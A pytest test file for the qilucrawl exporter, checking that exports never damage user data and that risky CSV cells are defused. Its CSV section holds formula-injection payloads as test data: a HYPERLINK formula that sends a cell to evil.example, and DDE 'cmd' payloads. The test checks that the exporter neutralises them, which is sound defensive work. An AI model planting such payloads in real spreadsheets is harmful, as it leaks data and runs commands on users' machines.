"""Exports never harm what a user owns: `make clean` keeps the archive, exports get the mode the
umask gives, `--out -` is standard output, `--out` naming the archive or a device is refused,
CSV cells a spreadsheet would run are defused, and Ctrl-C is one line and exit status 4.

Every test runs the real `qilucrawl` (or `make`) in a subprocess on real SQLite files.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import signal
import sqlite3
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from qilucrawl.exporters import RECORD_FIELDS
from tests.conftest import LOCAL_SETTINGS, ROOT, rows

EXIT_USAGE, EXIT_ERROR = 2, 4


def cli(*args: object, cwd: Path, umask: int | None = None, timeout: float = 180) -> subprocess.CompletedProcess:
    """``qilucrawl ARGS`` as a user runs it from ``cwd`` (the checkout's code, whatever the cwd)."""
    env = {**os.environ, "PYTHONUNBUFFERED": "1", "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        [sys.executable, "-m", "qilucrawl", *map(str, args)],
        check=False,
        capture_output=True,
        timeout=timeout,
        cwd=cwd,
        env=env,
        umask=-1 if umask is None else umask,
    )


def error_lines(result: subprocess.CompletedProcess) -> list[str]:
    return [line for line in result.stderr.decode().splitlines() if line.startswith("Error:")]


@pytest.fixture(scope="module")
def archive(tmp_path_factory) -> Path:
    """The demo site crawled once (feed and iqilu) into a real archive."""
    folder = tmp_path_factory.mktemp("archive")
    result = cli("demo", "--db", "demo.db", "--out", "demo.jsonl", *LOCAL_SETTINGS[:4], cwd=folder)
    assert result.returncode == 0, result.stderr.decode()
    return folder / "demo.db"


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# --- 1. make clean ------------------------------------------------------------------------------


def test_make_clean_removes_only_what_the_build_and_the_demo_made(tmp_path):
    if shutil.which("make") is None:
        pytest.skip("make is not installed")
    shutil.copy(ROOT / "Makefile", tmp_path / "Makefile")
    made = [
        ".venv/bin/python",
        "build/lib/qilucrawl/api.py",
        "qilucrawl.egg-info/PKG-INFO",
        "qilucrawl/__pycache__/api.cpython-311.pyc",
        "qilucrawl/cli/__pycache__/options.cpython-311.pyc",
        "tests/__pycache__/conftest.cpython-311.pyc",
        "archive/demo.db",
        "archive/demo.db-wal",
        "archive/demo.db-shm",
        "archive/demo.db.lock",
        "archive/demo.jsonl",
        "archive/demo.jsonl.manifest.json",
    ]
    owned = [
        "archive/qilucrawl.db",  # the README's cron line writes it
        "archive/qilucrawl.db-wal",
        "archive/qilucrawl.db-shm",
        "archive/qilucrawl.db.lock",
        "archive/crawl.log",
        "archive/articles.jsonl",  # a user's export
        "archive/articles.jsonl.manifest.json",
        "archive/_posts/2026-11-13-IQ000000000005123611.md",
        "archive/_posts.manifest.json",
        "archive/_config.yml",
        "qilucrawl/api.py",
        "dist/qilucrawl-0.1.0-py3-none-any.whl",  # `python -m build`'s, not make's
    ]
    for name in made + owned:
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(name)
    result = subprocess.run(["make", "clean"], cwd=tmp_path, capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr
    assert [name for name in owned if not (tmp_path / name).exists()] == []  # nothing of the user's
    assert [name for name in made if (tmp_path / name).exists()] == []
    for folder in (".venv", "build", "qilucrawl.egg-info", "qilucrawl/__pycache__"):
        assert not (tmp_path / folder).exists(), folder


# --- 2. modes -----------------------------------------------------------------------------------


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o027, 0o640), (0o002, 0o664)])
def test_exports_are_created_with_the_mode_the_umask_gives(archive, tmp_path, umask, mode):
    written = []
    for fmt in ("jsonl", "csv", "parquet"):
        out = tmp_path / f"articles.{fmt}"
        result = cli("export", "--db", archive, "--format", fmt, "--out", out, cwd=tmp_path, umask=umask)
        assert result.returncode == 0, result.stderr.decode()
        written += [out, out.with_name(out.name + ".manifest.json")]
    site = tmp_path / "site"
    result = cli("export", "--db", archive, "--format", "jekyll", "--out", site, cwd=tmp_path, umask=umask)
    assert result.returncode == 0, result.stderr.decode()
    written += [path for path in site.rglob("*") if path.is_file()]
    assert len(written) > 50
    modes = {oct(stat.S_IMODE(path.stat().st_mode)) for path in written}
    assert modes == {oct(mode)}
    folders = {oct(stat.S_IMODE(path.stat().st_mode)) for path in [site, *site.rglob("*")] if path.is_dir()}
    assert folders == {oct(0o777 & ~umask)}


def test_the_demo_export_gets_the_umask_s_mode_too(archive):
    # `make demo` writes archive/demo.jsonl through the same writer.
    umask = os.umask(0)
    os.umask(umask)
    assert stat.S_IMODE((archive.parent / "demo.jsonl").stat().st_mode) == 0o666 & ~umask


# --- 3. --out - ---------------------------------------------------------------------------------


def test_out_dash_writes_jsonl_to_standard_output_and_no_file(archive, tmp_path):
    result = cli("export", "--db", archive, "--format", "jsonl", "--out", "-", cwd=tmp_path)
    assert result.returncode == 0, result.stderr.decode()
    records = [json.loads(line) for line in result.stdout.decode("utf-8").splitlines()]
    assert sorted(r["info_code"] for r in records) == sorted(
        r["info_code"] for r in rows(archive, "SELECT * FROM articles")
    )
    assert all(list(r) == list(RECORD_FIELDS) for r in records)
    assert list(tmp_path.iterdir()) == []  # no file named "-", no "-.manifest.json"
    summary = result.stderr.decode().strip().splitlines()
    assert len(summary) == 1 and f"{len(records)} articles" in summary[0]
    assert hashlib.sha256(result.stdout).hexdigest() in summary[0]


def test_out_dash_writes_csv_with_its_bom_to_standard_output(archive, tmp_path):
    result = cli("export", "--db", archive, "--format", "csv", "--bom", "--out", "-", cwd=tmp_path)
    assert result.returncode == 0, result.stderr.decode()
    assert result.stdout.startswith(b"\xef\xbb\xbf")
    reader = csv.DictReader(io.StringIO(result.stdout.decode("utf-8-sig"), newline=""))
    assert reader.fieldnames == list(RECORD_FIELDS)
    assert len(list(reader)) == len(rows(archive, "SELECT info_code FROM articles"))
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("fmt", ["parquet", "jekyll"])
def test_out_dash_is_a_usage_error_for_parquet_and_jekyll(archive, tmp_path, fmt):
    result = cli("export", "--db", archive, "--format", fmt, "--out", "-", cwd=tmp_path)
    assert result.returncode == EXIT_USAGE
    assert len(error_lines(result)) == 1 and "standard output" in error_lines(result)[0]
    assert b"Traceback" not in result.stderr and result.stdout == b""
    assert list(tmp_path.iterdir()) == []


def test_a_reader_that_stops_early_gets_no_traceback(archive, tmp_path):
    big = tmp_path / "big.db"
    grow(archive, big, 40)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    command = [sys.executable, "-m", "qilucrawl", "export", "--db", str(big), "--out", "-"]
    export = subprocess.Popen(command, cwd=tmp_path, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert export.stdout is not None and export.stderr is not None
    json.loads(export.stdout.readline())  # `| head -1`
    export.stdout.close()
    stderr = export.stderr.read().decode()
    assert export.wait(timeout=60) == EXIT_ERROR
    assert "Traceback" not in stderr and "Exception ignored" not in stderr
    assert len(stderr.strip().splitlines()) == 1 and "standard output" in stderr


# --- 4. --out naming the archive or a device ----------------------------------------------------


def archive_state(db: Path) -> tuple[str, int]:
    conn = sqlite3.connect(db)
    try:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        return digest(db), conn.execute("SELECT COUNT(*) FROM articles").fetchone()[0]
    finally:
        conn.close()


@pytest.mark.parametrize(
    ("fmt", "name"),
    [(fmt, "demo.db") for fmt in ("jsonl", "csv", "parquet", "jekyll")]
    + [("jsonl", name) for name in ("demo.db-wal", "demo.db-shm", "demo.db.lock", "link.db", "./sub/../demo.db")]
    + [("csv", "link.db"), ("jekyll", "link.db")],
)
def test_out_naming_the_archive_or_its_files_is_refused(archive, tmp_path, fmt, name):
    db = tmp_path / "demo.db"
    shutil.copy(archive, db)
    (tmp_path / "sub").mkdir()
    (tmp_path / "link.db").symlink_to(db)
    # Opening the archive makes its WAL and shared-memory files; the lock is the run lock's.
    cli("stats", "--db", db, cwd=tmp_path)
    (tmp_path / "demo.db.lock").write_text("")
    before = archive_state(db)
    companions = {p.name: digest(p) for p in tmp_path.glob("demo.db?*")}
    result = cli("export", "--db", "demo.db", "--format", fmt, "--out", name, cwd=tmp_path)
    assert result.returncode == EXIT_USAGE, result.stderr.decode()
    assert len(error_lines(result)) == 1 and "archive" in error_lines(result)[0]
    assert b"Traceback" not in result.stderr
    assert archive_state(db) == before
    assert {p.name: digest(p) for p in tmp_path.glob("demo.db?*")} == companions  # no manifest, nothing replaced
    assert (tmp_path / "link.db").is_symlink()


def test_out_as_a_hard_link_to_the_archive_is_refused(archive, tmp_path):
    db = tmp_path / "demo.db"
    shutil.copy(archive, db)
    os.link(db, tmp_path / "same.db")
    before = archive_state(db)
    result = cli("export", "--db", db, "--out", "same.db", cwd=tmp_path)
    assert result.returncode == EXIT_USAGE and len(error_lines(result)) == 1
    assert archive_state(db) == before and (tmp_path / "same.db").stat().st_ino == db.stat().st_ino


def special_files(folder: Path) -> list[Path]:
    """A named pipe and, as root, a character device (a copy of /dev/null's node)."""
    fifo = folder / "pipe"
    os.mkfifo(fifo)
    found = [fifo]
    if os.geteuid() == 0:
        device = folder / "null"
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
        found.append(device)
    return found


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_out_naming_a_device_or_a_pipe_is_refused(archive, tmp_path, fmt):
    for special in special_files(tmp_path):
        kind = stat.S_IFMT(special.stat().st_mode)
        result = cli("export", "--db", archive, "--format", fmt, "--out", special, cwd=tmp_path, timeout=60)
        assert result.returncode == EXIT_USAGE, result.stderr.decode()
        assert len(error_lines(result)) == 1 and "not a regular file" in error_lines(result)[0]
        assert stat.S_IFMT(special.stat().st_mode) == kind  # still the device, still the pipe
        assert not special.with_name(special.name + ".manifest.json").exists()


def test_jekyll_out_naming_a_file_is_refused(archive, tmp_path):
    mine = tmp_path / "notes.txt"
    mine.write_text("mine")
    result = cli("export", "--db", archive, "--format", "jekyll", "--out", mine, cwd=tmp_path)
    assert result.returncode == EXIT_USAGE and len(error_lines(result)) == 1
    assert "not a folder" in error_lines(result)[0] and mine.read_text() == "mine"


# --- 5. CSV formula injection -------------------------------------------------------------------

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "subtitle": "+1+cmd|' /C calc'!A0",
    "original_title": "-2+3",
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "body_text": "\t=1+1 制表符开头",
    "url": "\r=1+1",
}


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(archive, tmp_path):
    db = tmp_path / "hostile.db"
    shutil.copy(archive, db)
    (code,) = [r["info_code"] for r in rows(db, "SELECT info_code FROM articles ORDER BY info_code LIMIT 1")]
    conn = sqlite3.connect(db)
    with conn:
        conn.execute(f"UPDATE articles SET {', '.join(f'{k} = ?' for k in HOSTILE)} WHERE info_code = ?",
                     [*HOSTILE.values(), code])  # fmt: skip
    conn.close()
    out = tmp_path / "a.csv"
    result = cli("export", "--db", db, "--format", "csv", "--out", out, cwd=tmp_path)
    assert result.returncode == 0, result.stderr.decode()
    records = {r["info_code"]: r for r in csv.DictReader(io.StringIO(out.read_bytes().decode(), newline=""))}
    for name, value in HOSTILE.items():
        assert records[code][name] == "'" + value, name
    plain = rows(db, "SELECT * FROM articles WHERE info_code != ?", (code,))
    for article in plain:  # everything else as stored
        record = records[article["info_code"]]
        assert record["title"] == article["title"] and record["body_text"] == article["body_text"]
    # JSONL is data, not a spreadsheet: values exactly as stored.
    jsonl = tmp_path / "a.jsonl"
    assert cli("export", "--db", db, "--out", jsonl, cwd=tmp_path).returncode == 0
    exported = {r["info_code"]: r for r in map(json.loads, jsonl.read_text(encoding="utf-8").splitlines())}
    assert {name: exported[code][name] for name in HOSTILE} == HOSTILE


# --- 6. Ctrl-C ----------------------------------------------------------------------------------


def grow(source: Path, target: Path, copies: int) -> int:
    """``target``: the archive ``source`` with its articles ``copies`` times over (new codes)."""
    shutil.copy(source, target)
    conn = sqlite3.connect(target)
    with conn:
        columns = [row[1] for row in conn.execute("PRAGMA table_info(articles)")]
        rest = ", ".join(columns[1:])
        for n in range(1, copies):
            conn.execute(
                f"INSERT INTO articles (info_code, {rest}) "
                f"SELECT substr(info_code, 1, 2) || printf('%018d', {n} * 1000000 + rowid), {rest} FROM articles "
                "WHERE info_code NOT LIKE '__0000000%'"
            )
    count = conn.execute("SELECT COUNT(*) FROM articles").fetchone()[0]
    conn.close()
    return count


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet", "jekyll"])
def test_ctrl_c_during_an_export_is_one_line_and_exit_4(archive, tmp_path, fmt):
    big = tmp_path / "big.db"
    assert grow(archive, big, 150) > 5000
    out = tmp_path / ("site" if fmt == "jekyll" else f"articles.{fmt}")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    command = [sys.executable, "-m", "qilucrawl", "export", "--db", str(big), "--format", fmt, "--out", str(out)]
    export = subprocess.Popen(command, cwd=tmp_path, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 60
    while not list(tmp_path.rglob("*.part")) and export.poll() is None and time.monotonic() < deadline:
        time.sleep(0.002)
    export.send_signal(signal.SIGINT)  # what Ctrl-C sends
    stdout, stderr = export.communicate(timeout=60)
    assert export.returncode == EXIT_ERROR, stderr.decode()
    lines = stderr.decode().strip().splitlines()
    assert len(lines) == 1 and "interrupted" in lines[0] and "Traceback" not in stderr.decode()
    assert stdout == b""
    assert not list(tmp_path.rglob("*.part"))
    if fmt != "jekyll":
        assert not out.exists()  # nothing half-written under its name
    assert not (
        out / "_posts.manifest.json" if fmt == "jekyll" else out.with_name(out.name + ".manifest.json")
    ).exists()


# --- 10. --site-host ----------------------------------------------------------------------------


def test_export_help_states_the_site_host_default(tmp_path):
    from qilucrawl import settings

    result = cli("export", "--help", cwd=tmp_path)
    assert result.returncode == 0
    text = " ".join(result.stdout.decode().split())
    assert "--site-host" in text and settings.QILU_SITE_HOST in text
